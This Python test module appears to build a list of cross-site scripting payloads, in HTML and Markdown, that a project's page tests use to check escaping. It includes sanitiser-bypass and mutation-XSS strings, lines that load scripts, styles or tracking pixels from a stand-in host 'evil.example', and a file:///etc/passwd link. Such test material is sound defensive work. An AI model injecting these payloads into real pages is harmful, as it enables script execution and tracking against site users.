"""What somebody types into instructions who wants something to run, or to be fetched, elsewhere.

``payloads.json`` holds the same for the tests of the pages; ``python -m tests.payloads``
writes it anew. Whatever runs here, runs ``alert``.
"""

from __future__ import annotations

import json
from pathlib import Path

FILE = Path(__file__).with_name("payloads.json")

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\t>alert(1)</script\t>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '<img src="http://evil.example/pixel.png" width=1>',
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a onmouseover="alert(1)">x</a>',
    '<a href="//evil.example" target=_self>x</a>',
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    # Those that a first reader finds harmless, and a second, who reads what the first has written, does not.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>",
]  # fmt: skip

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\u0001javascript:alert(1))".replace("\u0001", "&#1;"),
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/admin)",
    "[x](#top)",
    "[x]()",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example"onmouseover="alert(1))',
    "[x](http://a.example'onmouseover='alert(1))",
    '[x](<http://a.example" onmouseover="alert(1)>)',
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "[[x](javascript:alert(1))](http://a.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT&colon;alert(1)>",
    '<http://a.example/"onmouseover=alert(1)>',
    'http://a.example/"onmouseover=alert(1)',
    "http://a.example/<script>alert(1)</script>",
    'https://user:pass@a.example/?a="><script>alert(1)</script>',
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    '![x"onerror="alert(1)](http://evil.example/pixel.png)',
    "`<script>alert(1)</script>`",
    '``` "onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    "```html onmouseover=alert(1)\n<img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
    "> <iframe src=javascript:alert(1)>",
    "**<b onclick=alert(1)>x**</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "*<a href='javascript:alert(1)'*>x",
    "1. <style onload=alert(1)>\n2. </style>",
]  # fmt: skip

PAYLOADS: list[str] = [*HTML, *MARKDOWN]


def as_json() -> str:
    """Return the text of ``payloads.json``."""
    return json.dumps(PAYLOADS, indent=1) + "\n"


if __name__ == "__main__":
    FILE.write_text(as_json())
